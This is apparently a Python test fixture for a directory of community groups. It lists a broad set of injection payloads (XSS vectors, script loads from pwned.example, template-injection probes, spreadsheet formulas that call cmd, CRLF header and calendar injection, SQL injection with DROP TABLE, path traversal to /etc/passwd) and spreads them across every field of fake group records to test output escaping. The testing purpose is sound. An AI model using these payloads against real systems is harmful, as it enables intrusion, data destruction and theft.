"""Texts that somebody might type, or publish, to make a page do something; and groups of them.

Whatever of it runs sets `window.pwned`.
"""

from __future__ import annotations

import datetime as dt
from collections.abc import Sequence
from dataclasses import replace

from directory.model import (
    Access,
    Contact,
    Group,
    Offer,
    OfferKind,
    Organisation,
    Provenance,
    Topic,
)
from geo.routing.vocabulary import Verdict
from tests.web.fakes import VENUES, group

_RUN = "window.pwned=1"

HOSTILE = (
    # Elements
    f"<script>{_RUN}</script>",
    f"<ScRiPt\n>{_RUN}</sCrIpT >",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    "<script src=//pwned.example/x.js></script>",
    f"<img src=x onerror={_RUN}>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<math><mtext><table><mglyph><style><img src onerror={_RUN}></style></mglyph></table></math>",
    f"<details open ontoggle={_RUN}>x</details>",
    f"<input autofocus onfocus={_RUN}>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    f"<object data='data:text/html,<script>{_RUN}</script>'></object>",
    "<base href='https://pwned.example/'>",
    "<meta http-equiv=refresh content='0;url=https://pwned.example/'>",
    "<link rel=stylesheet href=//pwned.example/x.css>",
    "<style>@import '//pwned.example/x.css'; body{display:none}</style>",
    "<form action=//pwned.example/><button>Go on",
    "<marquee onstart=window.pwned=1>",
    f"<template><img src=x onerror={_RUN}></template>",
    # Ends of what they stand in
    f"</title><script>{_RUN}</script>",
    f"</textarea><svg onload={_RUN}>",
    f"</script><script>{_RUN}</script>",
    f"</style></head><body onload={_RUN}>",
    f"</option></select><img src=x onerror={_RUN}>",
    f"--><script>{_RUN}</script><!--",
    f"]]><script>{_RUN}</script>",
    f'"><img src=x onerror={_RUN}>',
    f"'><img src=x onerror={_RUN}>",
    f"`><img src=x onerror={_RUN}>",
    f'" autofocus onfocus="{_RUN}" x="',
    f"' onmouseover='{_RUN}' x='",
    f"x onpointerenter={_RUN} style=position:fixed;inset:0",
    # Scripts, styles and templates
    f"';{_RUN};//",
    f'";{_RUN};//',
    f'\\";{_RUN};//',
    f"${{{_RUN}}} `${{{_RUN}}}`",
    f'"}}]}};{_RUN};({{"a":[{{"b":"',
    f"\u2028{_RUN}\u2029{_RUN}//",
    "{{7*191}} ${7*191} <%= 7*191 %> #{7*191}",
    "{% for x in range(9) %}{{ config }}{% endfor %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "%(7)s %s {0.__class__} %n",
    "red;} body{display:none} a{color:url(//pwned.example/x)",
    # Addresses
    f"javascript:{_RUN}",
    f"JaVa\tScRiPt:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    "//pwned.example/x",
    "https://pwned.example/?a=<script>&b='x'",
    f"mailto:x@y.example?body={_RUN}",
    "x@y.example?bcc=pwned@pwned.example&subject=x%0D%0ABcc:z@pwned.example",
    "tel:+44;postd=pwned",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "%2e%2e%2fetc%2fpasswd%00.html",
    # Tables
    "=HYPERLINK(\"http://pwned.example\";\"x\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "a,b;c\t\"d\"\r\n=1+1,e",
    # Headers, mail, calendars, cards
    "x\r\nX-Pwned: 1\r\nSet-Cookie: pwned=1",
    "x\r\n\r\n<script>window.pwned=1</script>",
    "x\nEND:VEVENT\nBEGIN:VALARM\nACTION:AUDIO\nTRIGGER:-PT1M\nEND:VALARM",
    "x\r\n ATTACH:http://pwned.example/x\r\nURL:http://pwned.example",
    "x;ALTREP=\"http://pwned.example\":y",
    "END:VCARD\r\nBEGIN:VCARD\r\nTEL:0900",
    # Databases
    "'; DROP TABLE groups; --",
    "' OR '1'='1",
    "%' UNION SELECT sql FROM sqlite_master --",
    # Letters
    "\u202egnp.exe\u202c \u2066x\u2069",
    "z\u200be\u200cr\u200do\ufeff\u00ad width",
    "Z\u0335\u0321\u0322" + "\u0300" * 60,
    "nothing\x00there",
    "a bell \x07\x1b[31m\x7f\x85",
    "\ufffe\uffff\U0001fffe",
    "&lt;script&gt;window.pwned=1&lt;/script&gt; &#60;b&#62; &amp",
    "＜script＞window.pwned=1＜/script＞",
    "A" * 3_000,
    "long words " * 300,
    "   ",
)  # fmt: skip
"""At least one of each kind that has ever worked somewhere."""

KEPT = tuple(text for text in HOSTILE if "\x00" not in text)
"""Those that a directory of groups does not refuse."""
TAME = ("Some plain words", "Other plain words")


def packed(longest: int) -> list[str]:
    """Return all texts, as many at once as fit into a field of a length; longer ones are cut.

    What is not made harmless in one of them is so in none.
    """
    packs = [""]
    for text in HOSTILE:
        more = f"{packs[-1]} {text[:longest]}" if packs[-1] else text[:longest]
        if len(more) > longest:
            packs.append(text[:longest])
        else:
            packs[-1] = more
    return packs


def groups_of(texts: Sequence[str]) -> tuple[Group, ...]:
    """Make as many groups as there are texts: over all of them, each field has had each text."""
    return tuple(_group(texts, number) for number in range(len(texts)))


def _group(texts: Sequence[str], number: int) -> Group:
    taken = iter(range(number, number + 99))

    def text() -> str:
        return texts[next(taken) % len(texts)]

    town = (VENUES[Verdict.PUBLIC_TRANSPORT], VENUES[Verdict.LIFT_BACK])[number % 2]
    hall = replace(
        town, id=f"h{number}", name=text(), address=text(), postcode=text(),
        access=Access(notes=text()), uprn=text(),
    )  # fmt: skip
    made = group(f"bad{number}", text(), hall, text())
    return replace(
        made,
        needs=(text(), text()),
        topics=(Topic(text(), text(), text()),),
        summary=text(),
        description=text(),
        organisation=Organisation(text(), text(), text(), text()),
        cost=text(),
        for_whom=text(),
        gender=text(),
        how_to_refer=text(),
        languages=(text(), text()),
        contacts=(Contact(text(), text(), text(), text()),),
        offers=(Offer(OfferKind.OTHER, text(), text(), (1,), text()),),
        alert=text(),
        provenance=Provenance(
            text(), "test", f"bad{number}", licence=text(), assured_on=dt.date(2026, 1, 9)
        ),
    )
